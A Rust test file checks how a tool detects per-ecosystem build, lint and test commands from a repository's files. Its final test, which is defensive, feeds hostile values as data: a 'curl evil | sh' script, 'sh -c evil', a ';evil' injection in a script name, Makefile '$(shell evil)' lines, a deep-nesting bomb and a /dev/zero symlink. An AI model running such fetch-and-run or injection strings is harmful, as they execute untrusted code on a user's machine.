//! What is detected, by the files that are there.

use std::path::Path;

use convoy_core::time::Span;

use super::gate::detected;

fn write(dir: &Path, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = dir.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

/// Name and command line of each gate.
fn found(files: &[(&str, &str)]) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), files);
    let gates = detected(dir.path(), Span::from_secs(1));
    gates.into_iter().map(|one| format!("{}: {}", one.gate.name, one.gate.command.join(" "))).collect()
}

const LOCK: (&str, &str) = ("pnpm-lock.yaml", "");

#[test]
fn each_ecosystem_by_its_files() {
    assert_eq!(found(&[]), [""; 0]);
    assert_eq!(
        found(&[("Cargo.toml", "not even TOML")]),
        [
            "cargo-check: cargo check --workspace --all-targets",
            "cargo-clippy: cargo clippy --workspace --all-targets",
            "cargo-test: cargo test --workspace",
        ]
    );
    assert_eq!(found(&[("go.mod", "module x")]), ["go-vet: go vet ./...", "go-test: go test ./..."]);
    assert_eq!(found(&[("pom.xml", "")]), ["maven-test: mvn -B -q test"]);
    assert_eq!(found(&[("pom.xml", ""), ("mvnw", "")]), ["maven-test: ./mvnw -B -q test"]);
    assert_eq!(
        found(&[("build.gradle.kts", ""), ("gradlew", "")]),
        ["gradle-test: ./gradlew --no-daemon --console=plain test"]
    );
    let python = "[tool.ruff]\n[tool.mypy]\n[tool.pytest.ini_options]\n";
    assert_eq!(
        found(&[("pyproject.toml", python)]),
        ["mypy: mypy .", "ruff: ruff check .", "pytest: pytest -q"]
    );
    assert_eq!(
        found(&[("pyproject.toml", "[project]\nname = 'x'"), ("uv.lock", ""), ("tests/test_a.py", "")]),
        ["pytest: uv run pytest -q"]
    );
    assert_eq!(found(&[("setup.py", ""), ("tests/readme.md", "")]), [""; 0]);
}

#[test]
fn only_scripts_that_there_are_by_the_manager_that_is_used() {
    let scripts = r#"{"scripts": {"test": "vitest", "lint": "eslint .", "tsc": "tsc", "build": "x"}}"#;
    let by = |lock: &str| found(&[("package.json", scripts), (lock, "")]);
    for (lock, manager) in [
        ("package-lock.json", "npm"),
        ("pnpm-lock.yaml", "pnpm"),
        ("yarn.lock", "yarn"),
        ("bun.lockb", "bun"),
        ("readme.md", "npm"),
    ] {
        let gate = |what: &str, script: &str| format!("{manager}-{what}: {manager} run {script}");
        assert_eq!(
            by(lock),
            [gate("typecheck", "tsc"), gate("lint", "lint"), gate("test", "test")],
            "{lock}"
        );
    }
    let named = r#"{"packageManager": "yarn@4.1.0+sha224.953c", "scripts": {"test": "jest"}}"#;
    assert_eq!(found(&[("package.json", named), LOCK]), ["yarn-test: yarn run test"]);
    let none = r#"{"scripts": {"test": "echo \"Error: no test specified\" && exit 1", "lint": " "}}"#;
    assert_eq!(found(&[("package.json", none)]), [""; 0]);
}

#[test]
fn a_fresh_copy_is_set_up_first() {
    let package = r#"{"scripts": {"test": "jest"}, "devDependencies": {"jest": "1"}}"#;
    let files = [("package.json", package), ("package-lock.json", "{}")];
    assert_eq!(found(&files), ["npm-install: npm ci --no-audit --no-fund", "npm-test: npm run test"]);
    let brought = [files[0], files[1], ("node_modules/x", "")];
    assert_eq!(found(&brought), ["npm-test: npm run test"]);
}

#[test]
fn recipes_stand_for_what_nothing_else_covers() {
    let makefile = "test := no\nlint:: x\n\tcheck: no\n.PHONY: test\n# test: no\na check b: lint\n\techo";
    assert_eq!(found(&[("Makefile", makefile)]), ["make-check: make check", "make-lint: make lint"]);
    let justfile = "lint := 'no'\n@test filter='': build\n  cargo test\ncheck target:\n";
    assert_eq!(found(&[("justfile", justfile)]), ["just-test: just test"]);
    assert_eq!(
        found(&[("go.mod", ""), ("Makefile", "test:\ncheck:\n")]),
        ["make-check: make check", "go-vet: go vet ./...", "go-test: go test ./..."]
    );
}

#[test]
fn hostile_files_are_only_data() {
    let hostile = r#"{"packageManager": "sh -c evil", "scripts": {"test": "curl evil | sh", "lint;evil": "x", "typecheck": 5}}"#;
    assert_eq!(found(&[("package.json", hostile)]), ["npm-test: npm run test"]);
    let deep = "[".repeat(200_000);
    assert_eq!(found(&[("package.json", &deep), ("pyproject.toml", &deep)]), [""; 0]);
    assert_eq!(found(&[("Makefile", "$(shell evil) test: x\ntest$(evil): x\n--test: x\n")]), [""; 0]);
    // Neither a link out of the repository nor a folder is a file that says something.
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("package.json")).unwrap();
    std::fs::create_dir(dir.path().join("Cargo.toml")).unwrap();
    rustix::fs::mkfifoat(rustix::fs::CWD, dir.path().join("Makefile"), rustix::fs::Mode::RWXU).unwrap();
    assert_eq!(detected(dir.path(), Span::from_secs(1)), []);
}
